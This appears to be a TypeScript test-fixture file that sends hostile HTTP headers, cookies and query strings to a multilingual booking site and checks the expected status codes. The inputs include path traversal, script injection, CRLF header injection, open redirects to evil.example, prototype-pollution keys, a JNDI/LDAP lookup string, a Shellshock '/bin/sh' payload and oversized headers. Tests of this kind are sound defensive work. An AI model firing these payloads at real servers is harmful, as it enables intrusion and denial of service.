import { type HostileCase, headerCases, namedCases, request, words } from "./hostile-case.ts";

const ranges = words(`
  bytes=0-0 bytes=-1 bytes=0-99999999999999999999 bytes=5-1 bytes=- bytes bytes=a-b
  bytes=0-0,1-1,2-2 items=0-1 \xff bytes=${"0-,".repeat(1300)}0-
`);

const conditions = [
  ...words(`
    "x" W/"x" x " "" W/ , \xff\xfe __proto__
  `),
  '"a" "b"',
  `${'"x",'.repeat(2000)}"y"`,
  '"'.repeat(3000),
];

const codings = [
  ...words(`
    *;q=0 identity;q=0 br;q=2 br;q=-1 br;q= br;q=NaN br;q=1e9 br;level=11 compress ,
    ;;;q br,,,gzip ../../etc/passwd __proto__ \xff
  `),
  "constructor, toString",
  "br, ".repeat(2000),
];

const languages = [
  ...words(`
    * en en-US,en;q=0.9 xx de;q=0 x-hr , ;q=1 __proto__ constructor;q=1 ../../hr <script> \xff -
  `),
  "",
  "hr;q=0, en",
  "a".repeat(8000),
  "xx,".repeat(2700),
  `${"xx;q=0.9,".repeat(890)}en`,
];

const cookies = [
  ...words(`
    i18n_redirected=en a=b = ; ;;;; a =b __proto__=hr constructor=hr a=i18n_redirected=hr
    xi18n_redirected=hr i18n_redirected i18n_redirected= i18n_redirected=xx
    i18n_redirected=__proto__ i18n_redirected=% i18n_redirected=%zz i18n_redirected=../hr
    i18n_redirected=//evil.example i18n_redirected=hr%0d%0aX-Evil:1 i18n_redirected="
    i18n_redirected=\xff
  `),
  "a=b; ".repeat(4000),
];

const queries = [
  ...words(`
    /about? /about?? /about?&&& /about?= /about?x /about?% /about?x=%zz /about?x=%00
    /about?x=<script>alert(1)</script> /about?x[]=1&x[__proto__]=2 /about?__proto__=1
    /about?constructor=1 /about?x=//evil.example /about?x=../../etc/passwd /about?x={{7*7}}
    /about?x=%0d%0aX-Evil:1 /about?x=\\evil.example /about/_payload.json?//evil.example
    /api/availability?callback=evil /healthz?x=% /pricing-and-availability?arrival=
    /pricing-and-availability?arrival=2027-02-30&departure=2027-13-01
    /pricing-and-availability?arrival=0000-00-00&departure=9999-99-99
    /pricing-and-availability?arrival=2027-07-10&departure=2027-07-03
    /pricing-and-availability?arrival=9999-12-31&departure=0001-01-01
    /pricing-and-availability?arrival=2027-07-03&departure=9999-12-31
    /pricing-and-availability?arrival=%zz&departure=%
    /pricing-and-availability?arrival=<script>&departure=<script>
    /pricing-and-availability?arrival=2027-07-03&arrival=2027-07-04&departure=2027-07-10
    /pricing-and-availability?arrival[]=2027-07-03&departure[x]=2027-07-10
    /pricing-and-availability?arrival=-271821-04-20&departure=%2B275760-09-13
    /pricing-and-availability?departure=2027-07-10
    /pricing-and-availability?arrival=2027-07-03%00&departure=2027-07-10
  `),
  "/about?x='\"",
  `/about?${"x&".repeat(4000)}`,
  `/pricing-and-availability?arrival=${"2".repeat(7000)}&departure=1`,
];

const redirected = [
  "/en?//evil.example",
  "/en/?x=%0d%0aLocation:%20//evil.example",
  "/about/?x=%zz",
  "/about/?\\evil.example",
  "/hr/?x=1",
  "/de/galerie?__proto__=1",
];

const large = namedCases([
  ["60 kB of cookies", request("GET /", `Cookie: ${"a=b; ".repeat(12_000)}`), 431],
  [
    "60 kB in a thousand cookies",
    request("GET /", ...Array<string>(1000).fill(`Cookie: ${"a".repeat(53)}=b`)),
    431,
  ],
  [
    "8 kB of languages and of cookies",
    request(
      "GET /about",
      `Accept-Language: ${"xx,".repeat(2700)}`,
      `Cookie: ${"a=b; ".repeat(1600)}`,
    ),
    200,
  ],
  ["a header of 40 kB", request("GET /about", `A: ${"a".repeat(40_000)}`), 431],
  ["a header name of 40 kB", request("GET /about", `${"A".repeat(40_000)}: a`), 431],
  [
    "nine hundred headers",
    request("GET /about", ...Array.from({ length: 900 }, (_, index) => `X-${index}: a`)),
    200,
  ],
  [
    "ten thousand headers",
    request("GET /about", ...Array.from({ length: 10_000 }, (_, index) => `X-${index}: a`)),
    431,
  ],
]);

/** Fields that some server somewhere heeds: sent together, since ours heeds none of them. */
const unheeded = [
  ...words(`
    __proto__:1 constructor:1 toString:1 then:1 Origin:null Origin:https://evil.example
    Referer:https://evil.example/hr Referer:\xff Sec-Fetch-Site:__proto__ Sec-Fetch-Dest:document
    Accept:*/*;q=NaN Accept:application/json Authorization:Basic Pragma:no-cache
    Cache-Control:only-if-cached If-Modified-Since:yesterday If-Range:"x" If-Match:"x" TE:trailers
    Keep-Alive:timeout=999999 Content-Type:text/html;charset=\xff Content-Encoding:br Early-Data:1
    User-Agent:jndi:ldap://evil.example/a Max-Forwards:-1 Upgrade-Insecure-Requests:1
    Access-Control-Request-Method:DELETE X-HTTP-Method-Override:DELETE X-Forwarded-For:127.0.0.1
    X-Forwarded-Host:evil.example X-Forwarded-Proto:javascript X-Forwarded-Port:1 X-Real-IP:127.0.0.1
    X-Forwarded-Prefix://evil.example X-Forwarded-Path:/hr X-Original-Host:evil.example X-Original-URL:/hr
    X-Rewrite-URL:/hr X-Host:evil.example X-HTTP-Host-Override:evil.example Via:evil.example
    Base-Url://evil.example Destination://evil.example Proxy:http://evil.example Front-End-Https:on
    Forwarded:for=127.0.0.1;host=evil.example;proto=https Forwarded:host=\xff
  `),
  "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
  "Content-Security-Policy: default-src *",
  "User-Agent: () { :; }; /bin/sh",
];

/** Headers and queries that hold anything but what they should. */
export const headerFields: readonly HostileCase[] = [
  ...headerCases(200, "/about", "Range", ranges),
  ...headerCases(200, "/favicon.ico", "Range", ["bytes=0-0"]),
  ...headerCases(404, "/nothing", "Range", ["bytes=0-0"]),
  ...headerCases(200, "/about", "If-None-Match", conditions),
  ...headerCases(304, "/about", "If-None-Match", ["*", " * "]),
  ...headerCases(404, "/nothing", "If-None-Match", ["*", '"x"']),
  ...headerCases(301, "/en/about", "If-None-Match", ["*"]),
  ...headerCases(200, "/about", "Accept-Encoding", codings),
  ...headerCases(404, "/nothing", "Accept-Encoding", ["identity;q=0", "*;q=0", "\xff"]),
  ...headerCases(200, "/", "Accept-Language", languages),
  ...headerCases(302, "/", "Accept-Language", [
    "hr",
    "de-AT",
    "IT",
    "de;q=0.1, hr;q=0.2",
    `${"xx,".repeat(2700)}hr`,
  ]),
  ...headerCases(200, "/", "Cookie", cookies),
  ...headerCases(302, "/", "Cookie", [
    "i18n_redirected=hr",
    "a=b; i18n_redirected=de",
    " i18n_redirected=it ;",
  ]),
  ...namedCases(
    queries.map((query) => [`GET ${query.slice(0, 70)}`, request(`GET ${query}`), 200]),
  ),
  ...namedCases(redirected.map((query) => [`GET ${query}`, request(`GET ${query}`), 301])),
  ...large,
  ...namedCases([
    ["a page with what nobody heeds", request("GET /about", ...unheeded), 200],
    ["a redirect with it", request("GET /en/about", ...unheeded), 301],
  ]),
];
